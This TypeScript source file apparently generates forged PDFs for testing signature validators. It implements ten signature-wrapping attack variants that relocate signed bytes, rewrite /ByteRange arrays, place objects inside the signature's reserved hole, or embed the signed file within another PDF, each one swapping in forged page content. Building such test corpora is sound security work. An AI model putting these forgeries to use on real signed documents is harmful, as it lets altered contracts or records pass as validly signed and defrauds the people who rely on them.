import { Buffer } from "node:buffer";
import { appendRevision, lastTrailer, latin1 } from "../../../../local/rehearsal/pdfs/pdf-writer.ts";
import { CATALOGUE, FIRST_CONTENT } from "../../../../local/rehearsal/pdfs/plain-pdf.ts";
import { type Attack, changes, evilContent, overwritten, placesOf, signed } from "./attack.ts";

/**
 * Signature wrapping (CCS 2019): the signed bytes stay whole, but lie where no reader looks; what the reader
 * shows stands between or around them.
 */
export const wrapping: readonly Attack[] = (
  [
    ["the second part is moved to the end", () => movedTail()],
    ["the second part is moved and the text replaced", () => movedTail(true)],
    ["objects stand in the hole, behind the signature", () => inTheHole(" ")],
    ["objects stand in the hole, inside the hex digits", () => inTheHole("0")],
    ["the ranges come in the other order", () => withRanges(([, b, c, d]) => [c, d, 0, b])],
    ["three ranges leave a second hole", () => withRanges(([, b, c, d]) => [0, b, c, 10, c + 10, d - 10])],
    ["the ranges overlap", () => withRanges(([, b, c, d]) => [0, b, c - 20, d + 20])],
    ["the second range is empty", () => withRanges(([, b, c]) => [0, b, c, 0])],
    ["the signed file follows another one", () => behindAnother()],
    ["the signed file lies inside another one as a stream", () => insideAnother()],
  ] as const
).map(([name, forge]) => ({ kind: "wrapping", name, forge }));

/** A new signature dictionary whose second range names a copy of the signed bytes at the very end. */
function movedTail(replaceText = false): Buffer {
  const file = signed();
  const { object, dictionary, byteRange } = placesOf(file);
  const [, start, end] = byteRange;
  const tail = file.subarray(end);
  const rewritten = (to: readonly number[]): Buffer => {
    const ranges = `/ByteRange[${to.map((number) => String(number).padStart(10, "0")).join(" ")}]`;
    const wrapped = dictionary.replace(/\/ByteRange\s*\[[^\]]*\]\s*/, ranges);
    const objects = changes(
      [object, wrapped],
      ...(replaceText ? [[FIRST_CONTENT, evilContent()] as const] : []),
    );
    const update = appendRevision(file, { objects });
    // The reader's startxref must still be the last thing in the file: the copy goes in front of it.
    const at = update.lastIndexOf("startxref", undefined, "latin1");
    return Buffer.concat([update.subarray(0, at), latin1("%"), tail, update.subarray(at)]);
  };
  const draft = rewritten([0, start, 0, tail.length]);
  const copyAt = draft.lastIndexOf(tail, undefined);
  return rewritten([0, start, copyAt, tail.length]);
}

/** Part of the reserved zeros gives way to objects, and a later table points at them. */
function inTheHole(filler: string): Buffer {
  const file = signed();
  const { contents } = placesOf(file);
  const evil = Buffer.concat([
    latin1(`\n${FIRST_CONTENT} 0 obj\n`),
    evilContent(),
    latin1("\nendobj\n"),
  ]).toString("latin1");
  const kept = contents.replace(/0+$/, "");
  const place = contents.length - evil.length - 2;
  const digits = kept.padEnd(place, "0") + (filler === " " ? ">" : "0");
  const holed = overwritten(
    file,
    contents,
    `${digits}${evil}`.padEnd(contents.length, filler === " " ? " " : "0"),
  );
  const at = holed.indexOf(`\n${FIRST_CONTENT} 0 obj`, placesOf(file).byteRange[1], "latin1") + 1;
  const { startXref, size } = lastTrailer(file);
  const entry = `${String(at).padStart(10, "0")} 00000 n\r\n`;
  const table = `xref\n${FIRST_CONTENT} 1\n${entry}trailer\n<</Size ${size}/Root ${CATALOGUE} 0 R/Prev ${startXref}>>\n`;
  return Buffer.concat([holed, latin1(`${table}startxref\n${holed.length}\n%%EOF\n`)]);
}

function withRanges(
  change: (ranges: readonly [number, number, number, number]) => readonly number[],
): Buffer {
  const file = signed();
  const { object, dictionary, byteRange } = placesOf(file);
  const forged = dictionary.replace(/\/ByteRange\s*\[[^\]]*\]/, `/ByteRange[${change(byteRange).join(" ")}]`);
  return appendRevision(file, { objects: changes([object, forged], [FIRST_CONTENT, evilContent()]) });
}

/** Every place the signed file names is now wrong by the length of what stands in front. */
function behindAnother(): Buffer {
  const file = signed();
  const front = latin1("%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n");
  const { startXref, size } = lastTrailer(file);
  const text = Buffer.concat([latin1(`${FIRST_CONTENT} 0 obj\n`), evilContent(), latin1("\nendobj\n")]);
  const whole = Buffer.concat([front, file, text]);
  const entry = `${FIRST_CONTENT} 1\n${String(front.length + file.length).padStart(10, "0")} 00000 n\r\n`;
  const trailer = `trailer\n<</Size ${size}/Root ${CATALOGUE} 0 R/Prev ${startXref + front.length}>>\n`;
  return Buffer.concat([whole, latin1(`xref\n${entry}${trailer}startxref\n${whole.length}\n%%EOF\n`)]);
}

function insideAnother(): Buffer {
  const inner = signed();
  const start = latin1("%PDF-1.7\n80 0 obj\n<</Length 0>>\nstream\n");
  const whole = Buffer.concat([start, inner, latin1("\nendstream\nendobj\n")]);
  const { dictionary } = placesOf(inner);
  const [, b = 0, c = 0, d = 0] = placesOf(inner).byteRange;
  const shifted = dictionary.replace(
    /\/ByteRange\s*\[[^\]]*\]/,
    `/ByteRange[${start.length} ${b} ${c + start.length} ${d}]`,
  );
  const objects = [
    [CATALOGUE, `<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[82 0 R]/SigFlags 3>>>>`],
    [2, "<</Type/Pages/Count 1/Kids[10 0 R]>>"],
    [
      10,
      "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 11 0 R/Resources<</Font<</F1 3 0 R>>>>/Annots[82 0 R]>>",
    ],
    [3, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"],
    [11, evilContent()],
    [81, shifted],
    [82, "<</Type/Annot/Subtype/Widget/FT/Sig/T(Signature1)/F 132/Rect[0 0 0 0]/P 10 0 R/V 81 0 R>>"],
  ] as const;
  const offsets: string[] = [];
  let file = whole;
  for (const [number, body] of objects) {
    offsets.push(`${number} 1\n${String(file.length).padStart(10, "0")} 00000 n\r\n`);
    const bytes = typeof body === "string" ? latin1(body) : body;
    file = Buffer.concat([file, latin1(`${number} 0 obj\n`), bytes, latin1("\nendobj\n")]);
  }
  return Buffer.concat([
    file,
    latin1(
      `xref\n${offsets.join("")}trailer\n<</Size 83/Root ${CATALOGUE} 0 R>>\nstartxref\n${file.length}\n%%EOF\n`,
    ),
  ]);
}
